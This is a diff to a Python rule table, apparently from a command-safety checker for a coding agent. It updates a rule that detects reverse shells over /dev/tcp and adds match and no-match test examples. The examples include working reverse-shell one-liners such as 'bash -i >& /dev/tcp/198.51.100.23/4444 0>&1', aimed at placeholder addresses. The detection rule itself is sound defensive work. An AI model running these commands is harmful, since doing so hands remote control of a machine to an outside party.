@@ -375,10 +375,11 @@ RULES = [
         "reason": "connects a shell to a network socket (/dev/tcp): a reverse shell",
         "safer": "Nothing legitimate in a coding task needs this.",
         "recovery": "Treat the machine as compromised: disconnect it, rotate credentials, rebuild.",
-        "match": {"cmd": ("*",), "targets": {"of": "redirects", "region": "network"}},
+        "match": {"cmd": ("*",), "targets": {"of": "shell_sockets", "region": "network"}},
         "examples": {
-            "match": ["bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", "sh -i < /dev/udp/10.0.0.1/53"],
-            "no_match": ["bash -i", "echo x > /dev/null"],
+            "match": ["bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", "sh -i < /dev/udp/10.0.0.1/53",
+                      "exec 5<>/dev/tcp/203.0.113.9/443", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"],
+            "no_match": ["bash -i", "echo x > /dev/null", "exec 3<>/dev/tcp/127.0.0.1/8080"],
         },
     },
     {
